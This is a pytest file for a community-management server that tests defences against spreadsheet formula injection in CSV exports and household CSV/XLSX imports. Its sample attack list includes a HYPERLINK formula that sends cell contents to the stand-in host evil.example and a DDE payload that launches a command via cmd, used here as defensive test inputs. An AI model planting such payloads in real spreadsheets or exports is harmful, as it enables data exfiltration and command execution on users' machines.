"""Spreadsheet formula injection: every CSV export writes formula-leading text as plain text, and the
household import refuses formula cells (CSV text or XLSX formulas) in its per-row report."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from server.accounts.models import Staff
from server.exports import safe_cell
from server.walks.models import Checkpoint, WalkRoute
from tests.test_import import URL, counts, csv_bytes, upload
from tests.test_walks_coverage import Walker, local

pytestmark = pytest.mark.anyio

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("text", [*ATTACKS, "\t=1+1", "\r=1+1"])
def test_formula_leading_text_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["张伟", "-3", "+86", "-0.5", "2026-11-23T07:10:00+08:00", -3, 2.5, 0, ""])
def test_plain_values_and_signed_numbers_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_every_csv_in_the_server_is_written_by_the_one_helper():
    root = Path(__file__).resolve().parent.parent / "server"
    writers = sorted(
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
    )
    assert writers == ["exports.py"]


async def test_coverage_csv_neutralises_route_checkpoint_and_steward_names(api, world, clock, database):
    async with database.writer() as s:
        await s.execute(update(WalkRoute).where(WalkRoute.id == world.routes[0].id).values(name=ATTACKS[0]))
        await s.execute(update(Checkpoint).where(Checkpoint.id == world.checkpoints[0].id).values(name=ATTACKS[1]))
        await s.execute(update(Staff).where(Staff.id == world.id("steward_a")).values(name="@SUM(A1)"))
        await s.commit()
    await Walker(api, clock).visit(world, 0, "2026-11-23", "07:10")
    clock.set(local("2026-11-24", "08:00"))
    params = {"grid_id": str(world.grids[0].id), "period": "day", "day": "2026-11-23"}
    r = await api.get("lead", "/api/walks/coverage.csv", params=params)
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))
    mine = [x for x in rows if x["checkpoint"] == "'" + ATTACKS[1]]
    assert mine and all(x["route"] == "'" + ATTACKS[0] for x in mine)
    assert "'@SUM(A1)" in {x["steward"] for x in mine}
    cells = [v for x in rows for v in x.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "@")], cells


async def test_an_imported_formula_cell_is_reported_per_row_and_nothing_is_stored(api, world, database):
    before = await counts(database)
    data = csv_bytes(
        "8,1,101,张伟,13812345678,东区",  # row 2: fine
        f'8,1,102,"{ATTACKS[0].replace(chr(34), chr(34) * 2)}",13812345679,东区',  # row 3
        "@SUM(1),1,103,李娜,,东区",  # row 4
        "8,+1+1,104,王强,,东区",  # row 5
        "8,1,105,=1+1,,东区",  # row 6
    )
    r = await upload(api, data)
    assert r.status_code == 422, r.text
    report = {(e["row"], e["field"], e["code"]) for e in r.json()["details"]["errors"]}
    assert report == {
        (3, "owner_name", "formula_cell"),
        (4, "building", "formula_cell"),
        (5, "unit", "formula_cell"),
        (6, "owner_name", "formula_cell"),
    }
    assert await counts(database) == before


async def test_dashes_for_none_signed_rooms_and_plus_86_phones_import(api, world):
    data = csv_bytes("9,1,-101,-,-,东区", "9,1,102,—,+86 139 0000 3333,东区")
    r = await upload(api, data)
    assert r.status_code == 201, r.text
    found = {h["label"]: h for h in (await api.get("desk", "/api/households", params={"q": "9栋"})).json()}
    assert found["9栋1单元-101"]["owner_name"] == "" and not found["9栋1单元-101"]["owner_phone"]
    assert found["9栋1单元102"]["owner_phone"] == "13900003333"


async def test_an_xlsx_formula_without_a_cached_value_is_reported_not_imported_blank(api, world, database):
    before = await counts(database)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["楼栋", "单元", "房号", "业主姓名", "业主电话", "网格"])
    sheet.append([10, 1, 101, "孙丽", 13811112222, "西区"])
    sheet.append([10, 1, 102, '=CONCATENATE("周","杰")', 13811113333, "西区"])  # saved without a value
    buffer = io.BytesIO()
    book.save(buffer)
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    r = await api.post("supervisor", URL, files={"file": ("业主.xlsx", buffer.getvalue(), xlsx)})
    assert r.status_code == 422, r.text
    [error] = r.json()["details"]["errors"]
    assert (error["row"], error["field"], error["code"]) == (3, "owner_name", "formula_cell")
    assert error["value"].startswith("=CONCATENATE")
    assert await counts(database) == before
